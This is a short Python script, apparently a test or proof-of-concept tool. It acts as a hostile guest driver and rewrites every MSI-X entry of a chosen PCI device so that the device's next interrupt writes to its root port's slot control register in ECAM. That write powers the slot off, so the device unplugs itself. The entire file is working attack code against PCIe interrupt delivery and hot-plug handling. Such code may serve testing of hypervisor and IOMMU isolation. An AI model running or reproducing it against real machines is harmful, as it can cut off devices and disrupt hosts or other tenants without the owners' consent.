#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""msix-aim.py DEV - in the guest, as a hostile driver would: aim every
MSI-X entry of PCI device DEV (e.g. 0000:01:00.0) at the slot control
register of the PCIe root port above it, in ECAM, with the data that powers
the slot off (power controller off, power indicator off). The device's next
interrupt is then a write that unplugs the device itself, from inside its
own MSI-X delivery. Prints the address aimed at."""
import mmap
import os
import struct
import sys

dev = sys.argv[1]
sysdev = os.path.realpath(f"/sys/bus/pci/devices/{dev}")
port = os.path.basename(os.path.dirname(sysdev))      # the root port above


def config(bdf):
    with open(f"/sys/bus/pci/devices/{bdf}/config", "rb") as f:
        return f.read(256)


def find_cap(cfg, want):
    off = cfg[0x34] & 0xfc
    while off:
        if cfg[off] == want:
            return off
        off = cfg[off + 1] & 0xfc
    raise SystemExit(f"msix-aim: no capability {want:#x}")


def ecam_base():
    with open("/proc/iomem") as f:
        for line in f:
            if "PCI MMCONFIG" in line or "PCI ECAM" in line:
                return int(line.split("-")[0].strip(), 16)
    raise SystemExit("msix-aim: no PCI ECAM (MMCONFIG) in /proc/iomem")


dom, bus, devfn = port.split(":")
slot, fn = devfn.split(".")
exp = find_cap(config(port), 0x10)                     # PCI Express
addr = (ecam_base() + (int(bus, 16) << 20) + (int(slot, 16) << 15) +
        (int(fn, 16) << 12) + exp + 0x18)              # PCI_EXP_SLTCTL
data = 0x0400 | 0x0300                                 # PCC off, PIC off

cfg = config(dev)
msix = find_cap(cfg, 0x11)
entries = (struct.unpack_from("<H", cfg, msix + 2)[0] & 0x7ff) + 1
table = struct.unpack_from("<I", cfg, msix + 4)[0]
bar, off = table & 7, table & ~7
fd = os.open(f"/sys/bus/pci/devices/{dev}/resource{bar}", os.O_RDWR | os.O_SYNC)
m = mmap.mmap(fd, off + 16 * entries)
for i in range(entries):
    e = off + 16 * i
    m[e:e + 12] = struct.pack("<III", addr & 0xffffffff, addr >> 32, data)
m.close()
os.close(fd)
print(f"msix-aim: {entries} entries of {dev} aimed at {addr:#x} (slot control of {port})")
